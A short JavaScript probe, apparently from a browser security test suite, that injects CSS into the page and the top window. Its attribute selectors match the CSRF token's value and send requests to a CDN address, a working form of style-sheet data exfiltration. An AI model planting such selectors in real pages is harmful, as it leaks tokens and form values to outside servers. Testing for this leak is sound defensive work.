// Tries: read fields of the page with a style sheet alone: selectors on attributes, and an address for each.
(() => {
  const sheet = `#csrf[value^="token-5"] ~ button { background: url("${CDN}/reached/read-by-style/selector") }
p:has(~ form #csrf[value$="6c"]) { background: url("${CDN}/reached/read-by-style/has") }`;
  for (const view of [window, top]) {
    attempt(() => {
      const style = view.document.createElement("style");
      style.textContent = sheet;
      view.document.documentElement.append(style);
    });
  }
  setTimeout(() => over("read-by-style"), 200);
})();
